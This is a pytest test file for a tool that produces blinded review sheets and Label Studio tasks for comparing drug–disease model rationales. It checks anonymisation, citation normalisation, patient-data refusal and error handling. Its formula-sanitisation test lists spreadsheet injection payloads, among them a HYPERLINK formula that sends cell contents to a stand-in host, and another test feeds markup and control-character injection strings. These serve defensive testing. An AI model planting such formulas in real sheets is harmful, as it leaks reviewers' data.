"""What reviewers get tells no model, cannot harm their spreadsheet, and fits Label Studio."""

import csv
import io
import json
import re
from collections import Counter
from xml.etree import ElementTree

import pytest

from kedrec.commands.report.blinded_review import write_review
from kedrec.commands.report.review_answers import read_reviews
from kedrec.commands.report.review_form import RANK, SCALES
from kedrec.commands.report.review_report import review_report
from kedrec.commands.report.review_runs import cite_alike
from kedrec.commands.report.review_sheet import harmless
from kedrec.errors import KedrecError
from tests.support.simulated_reviewers import QUALITY, fill, key, rows_of, sheet


def test_nothing_that_reviewers_get_names_a_model(review):
    folder = review()
    given = [path for path in folder.rglob("*") if path.is_file() and path.name != "key.json"]
    assert {path.name for path in given} == {"sheet.csv", "tasks.json", "labelling_config.xml", "README.md"}
    for path in given:
        assert path.parent == folder / "reviewers"
        text = path.read_text(encoding="utf-8-sig")
        for told in ("good", "fair", "poor", "-id", "both_sources", "Disease::", "Compound::", key(folder)["salt"]):
            assert told not in text.replace("How good is the text", ""), (path.name, told)


def test_the_order_tells_nothing(review):
    orders = Counter()
    first_of_id = {model: Counter() for model in QUALITY}
    for seed in range(6):
        folder = review(questions=60, seed=seed)
        model_of = {item: model[:4] for of in key(folder)["questions"].values() for item, model in of["items"].items()}
        rows = sheet(folder)
        assert len({row["item"] for row in rows}) == len(rows) == 180
        for at in range(0, len(rows), 3):
            assert len({row["question"] for row in rows[at : at + 3]}) == 1
            orders[tuple(model_of[row["item"]] for row in rows[at : at + 3])] += 1
        for row in rows:
            first_of_id[model_of[row["item"]]][row["item"][0] < "n"] += 1
    # 360 questions, six orders: 60 each in expectation, standard deviation 7.
    assert len(orders) == 6
    assert all(abs(count - 60) < 30 for count in orders.values())
    assert all(abs(count[True] - count[False]) < 100 for count in first_of_id.values())


def test_the_same_seed_gives_the_same_bytes_and_another_other_ids(review):
    first, again, other = review(questions=6), review(), review(seed=1)
    for path in (first / "reviewers").iterdir():
        assert path.read_bytes() == (again / "reviewers" / path.name).read_bytes()
    assert (first / "key.json").read_bytes() == (again / "key.json").read_bytes()
    assert not {row["item"] for row in sheet(first)} & {row["item"] for row in sheet(other)}


def test_ids_are_neither_numbers_nor_dates_nor_words(review):
    for row in sheet(review()):
        assert re.fullmatch("[bcdfghjklmnpqrstvwxz]{10}", row["item"])


def test_a_draw_of_questions_takes_the_diseases_in_turn(review):
    drawn = {seed: [of["pair"] for of in key(review(pairs=13, seed=seed))["questions"].values()] for seed in (0, 1)}
    for pairs in drawn.values():
        counts = Counter(pair.partition("|")[0] for pair in pairs)
        assert sorted(counts.values()) == [1] * 7 + [2] * 3  # of ten diseases with three questions each
    assert set(drawn[0]) != set(drawn[1])
    assert len(key(review(pairs=500))["questions"]) == 30
    with pytest.raises(KedrecError, match="pairs: 0; expected 1 or more"):
        review(pairs=0)


def test_citations_mean_the_same_passage_for_all_and_look_alike(run, tmp_path):
    shown = {"one": ["NCT0000", "NCT0001"], "two": ["NCT0002", "NCT0001", "NCT0000"], "none": []}
    said = {"one": "It helps[2,1].", "two": "It helps [2] [3].", "none": "It helps [1]; see [sic]."}
    runs = [run(name, rows_of(0, 3, shown[name], said[name])) for name in shown]
    write_review(runs, tmp_path / "review")
    models = {i: m for of in key(tmp_path / "review")["questions"].values() for i, m in of["items"].items()}
    for row in sheet(tmp_path / "review"):
        number_of = {text: number for number, text in re.findall(r"\[(\d)\] Excerpt (\d)", row["passages"])}
        assert sorted(number_of) == ["0", "1", "2"]  # what any of the models was shown
        both = sorted([number_of["0"], number_of["1"]])
        name = models[row["item"]].partition("/")[0]
        expected = "It helps [?]; see [sic]." if name == "none" else f"It helps [{both[0]}] [{both[1]}]."
        assert row["rationale"] == expected


def test_passages_are_shuffled_too(review):
    assert {re.match(r"\[1\] Excerpt (\d)", row["passages"])[1] for row in sheet(review())} == {"0", "1", "2", "3"}


@pytest.mark.parametrize(
    ("written", "alike"),
    [
        ("A[1]. B [2, 3]; C[1-3].", "A [4]. B [5] [6]; C [4] [5] [6]."),
        ("A [P-1; P-9] [12].", "A [4] [?]."),
        ("A [95% CI 1.2, 3.4] and [see below].", "A [95% CI 1.2, 3.4] and [see below]."),
        ("A [2\N{EN DASH}999999] [3-1] [0].", "A [5] [6] [?]."),
        ("[1]", "[4]"),
        ("", ""),
    ],
)
def test_cite_alike(written, alike):
    assert cite_alike(written, ["P-1", "P-2", "P-3"], {"P-1": 4, "P-2": 5, "P-3": 6}) == alike


def test_citations_stand_in_the_order_of_their_numbers():
    assert cite_alike("A [7] [1] [2].", ["P-1", "P-2"], {"P-1": 10, "P-2": 9}) == "A [9] [10] [?]."


def test_the_base_and_the_teacher_are_reviewed_once(run, tmp_path):
    base = rows_of(0, 3, rationale="The base writes this.")
    runs = [run(name, rows_of(quality, 3), base=base) for name, quality in (("a", 1), ("b", 2))]
    write_review(runs, tmp_path / "review", base=True)
    assert key(tmp_path / "review")["models"] == ["a/a-id", "b/b-id", "base", "teacher"]
    assert sum(row["rationale"].startswith("The teacher writes") for row in sheet(tmp_path / "review")) == 3
    other = run("c", rows_of(0, 3), base=rows_of(0, 3, rationale="Another base writes."))
    write_review([*runs, other], tmp_path / "more", base=True)
    assert key(tmp_path / "more")["models"][3:] == ["base of a/a-id", "base of c/c-id", "teacher"]
    write_review([other], tmp_path / "alone", base=True)
    assert len(key(tmp_path / "alone")["models"]) == 3
    with pytest.raises(KedrecError, match="a review compares at least two"):
        write_review([other], tmp_path / "nobody")


def test_only_questions_of_all_are_asked(run, tmp_path):
    runs = [run("a", rows_of(1, 9)), run("b", rows_of(2, 12)[6:])]
    write_review(runs, tmp_path / "review")
    pairs = {of["pair"] for of in key(tmp_path / "review")["questions"].values()}
    assert pairs == {row["pair"] for row in rows_of(1, 9)[6:]}
    with pytest.raises(KedrecError, match="c/c-id explained no question that a/a-id explained"):
        write_review([runs[0], run("c", rows_of(1, 12)[18:])], tmp_path / "other")


def test_a_newer_test_stands_for_the_run(run, tmp_path):
    runs = [run("a", rows_of(1, 3)), run("b", rows_of(2, 3))]
    again = runs[0] / "evaluations" / "44136fa355"
    again.mkdir(parents=True)
    (again / "predictions.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows_of(9, 3)))
    for name in ("metrics.json", "provenance.json"):
        (again / name).write_text("{}")
    write_review(runs, tmp_path / "review")
    assert {re.search(r"worth (\d)", row["rationale"])[1] for row in sheet(tmp_path / "review")} == {"9", "2"}


def test_no_cell_is_a_formula(run, tmp_path):
    nasty = [
        '=HYPERLINK("http://x?"&A1)',
        "+1",
        "-1",
        "@SUM(1)",
        "\t=1",
        "\N{FULLWIDTH EQUALS SIGN}1",
        "a;=1+1",
        "a\n=1",
    ]
    rows = rows_of(0, len(nasty))
    for at, text in enumerate(nasty):
        rows[2 * at] |= {"rationale": text, "disease": text, "drugs": [text, "b"], "texts": [text] * 4, "choice": 0}
    write_review([run("a", rows), run("b", rows)], tmp_path / "review")
    text = (tmp_path / "review" / "reviewers" / "sheet.csv").read_bytes().decode("utf-8-sig")
    for separator in ",;\t":  # whichever the spreadsheet takes cells to be parted by
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            for cell in row:
                assert not re.match(r"\s*[=+@\uff1d-]", cell), (separator, cell)
    assert harmless("No change; a dose of -5 is safe - so far") == "No change; a dose of -5 is safe - so far"


def test_texts_from_outside_stay_in_their_cells(run, tmp_path):
    odd = 'A "quote", <Choice value="1"/> & $case\r\n\x00 \ud800 \u202e ]]>'
    runs = [run(name, rows_of(0, 3, rationale=odd)) for name in "ab"]
    write_review(runs, tmp_path / "review")
    rows = sheet(tmp_path / "review")
    assert len(rows) == 6
    assert {row["rationale"] for row in rows} == {'A "quote", <Choice value="1"/> & $case ]]>'}


def test_label_studio_finds_what_its_interface_names(review):
    folder = review(questions=3)
    view = ElementTree.fromstring((folder / "reviewers" / "labelling_config.xml").read_text())
    texts = {tag.get("name"): tag.get("value") for tag in view.iter("Text")}
    for task in json.loads((folder / "reviewers" / "tasks.json").read_text()):
        assert list(task) == ["data"]
        assert {value.removeprefix("$") for value in texts.values()} <= set(task["data"])
    controls = [tag for tag in view.iter() if tag.tag in ("Choices", "TextArea")]
    assert len(controls) == len({tag.get("name") for tag in controls}) == 3 * (2 + len(SCALES))
    assert {tag.get("toName") for tag in controls} <= set(texts)


def test_what_is_of_patients_is_refused(run, tmp_path):
    places = [f"{name}={tmp_path}" for name in ("mimic", "graph", "texts")]
    hospital = run("hospital", rows_of(1, 3), "mimic_pairwise", *places)
    public = run("public", rows_of(2, 3))
    with pytest.raises(KedrecError, match=r"hospital: the sheet would show patient data.*--private"):
        write_review([public, hospital], tmp_path / "review")
    assert not (tmp_path / "review").exists()
    write_review([public, hospital], tmp_path / "review", private=True)
    assert "patient data" in (tmp_path / "review" / "reviewers" / "README.md").read_text()
    given = {row["item"]: {RANK: 1} for row in sheet(tmp_path / "review")}
    file = fill(tmp_path / "review", given, tmp_path / "anna.csv", comment="Mrs Smith")
    report = review_report(read_reviews([file], tmp_path / "review" / "key.json"))
    assert report.preferences[0].share.value == 0.5
    assert "Smith" not in report.as_json() + report.as_markdown()


def test_runs_that_cannot_be_reviewed(run, tmp_path):
    good, unfinished = run("a", rows_of(1, 3)), run("some/unfinished", rows_of(1, 3))
    (unfinished / "metrics.json").unlink()
    for runs, message in (
        ([good, good], "a review compares at least two"),
        ([good, tmp_path / "nowhere"], "nowhere: no such folder"),
        ([good, unfinished], "unfinished/metrics.json: no such file"),
        (
            [good, run("some/finished", rows_of(1, 3)).parent],
            "unfinished: metrics.json: no such file.*without this one",
        ),
        ([good, run("copy/a", rows_of(1, 3))], "the run a/a-id is given twice"),
        (
            [good, run("graph", [{"disease": "x", "compounds": []}], "transe_base")],
            "graph: predictions.jsonl holds no rationale",
        ),
        ([good, run("none", None)], "none: predictions.jsonl holds no rationale"),
    ):
        with pytest.raises(KedrecError, match=message):
            write_review(runs, tmp_path / "review")
        assert not (tmp_path / "review").exists()
    with pytest.raises(KedrecError, match=r"predictions_base.jsonl: no such file"):
        write_review([good], tmp_path / "review", base=True)
    damaged = run("damaged", rows_of(1, 3))
    (damaged / "predictions.jsonl").write_text('{"pair": ')
    with pytest.raises(KedrecError, match=r"predictions.jsonl: damaged"):
        write_review([good, damaged], tmp_path / "review")


def test_a_review_is_never_written_over(review, tmp_path):
    folder = review(questions=3)
    before = (folder / "key.json").read_bytes()
    with pytest.raises(KedrecError, match="not an empty folder"):
        write_review([tmp_path / "good", tmp_path / "poor"], folder, seed=1)
    assert (folder / "key.json").read_bytes() == before
